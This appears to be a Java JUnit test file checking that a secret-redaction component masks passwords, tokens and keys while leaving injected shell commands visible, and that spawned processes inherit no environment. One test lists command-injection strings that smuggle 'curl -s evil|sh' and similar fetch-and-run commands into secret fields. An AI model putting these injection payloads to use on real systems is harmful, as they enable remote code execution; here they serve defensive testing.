package io.diffy.acceptance.attack;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.diffy.agent.collect.Redactor;
import io.diffy.agent.process.BoundedProcess;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A backdoor that looks like a secret, and secrets that look like nothing. */
class MaskTest {
  private static final List<String> KNOWN =
      List.of("PATH", "HOME", "LANG", "LC_ALL", "TZ", "TMPDIR", "USER", "LOGNAME");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x --password '%s;curl -s evil|sh'",
        "TOKEN=%s|sh",
        "API_KEY=`curl -s evil`%s",
        "SECRET=$(curl -s evil)%s",
        "SECRET=%s\ncurl -s evil",
        "sh -c \"PASSWORD=%s && curl -s evil\"",
        "https://me:%s@h/;curl -s evil",
      })
  void whatAShellObeysStaysInSight(String backdoor) {
    String shown = Redactor.redact(backdoor.formatted("hunter2"));
    assertTrue(shown.contains("curl -s evil") || shown.contains("|sh"), shown);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x --password %s",
        "PGPASSWORD=%s psql",
        "curl -u me:%s h",
        "Authorization: Bearer %s",
        "ghp_aaaaaaaaaaaaaaaaaaaa%s",
        "https://me:%s@h/",
        "eyJhbGciOiJ9.eyJzdWIiOiJ9.%s"
      })
  void anotherSecretIsADifference(String form) {
    String one = Redactor.redact(form.formatted("abcdefgh1"));
    assertNotEquals(one, Redactor.redact(form.formatted("abcdefgh2")));
    assertFalse(one.contains("abcdefgh1"), one);
  }

  @Test
  void aSecretInTwoCellsIsOne() {
    for (String name : List.of("DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "github_token")) {
      String value =
          Redactor.redact(List.of(Map.of("pid", "1", "key", name, "value", "correct horse")))
              .get(0)
              .get("value");
      assertFalse(value.contains("correct"), name + value);
    }
  }

  @Test
  void whatWeStartHasNoneOfOurEnvironment() throws Exception {
    String seen =
        new String(
            new BoundedProcess(Duration.ofSeconds(9), 1 << 20)
                .run(new ProcessBuilder("/usr/bin/env"))
                .output(),
            UTF_8);
    assertEquals(
        List.of(),
        seen.lines().map(line -> line.split("=", 2)[0]).filter(k -> !KNOWN.contains(k)).toList());
  }
}
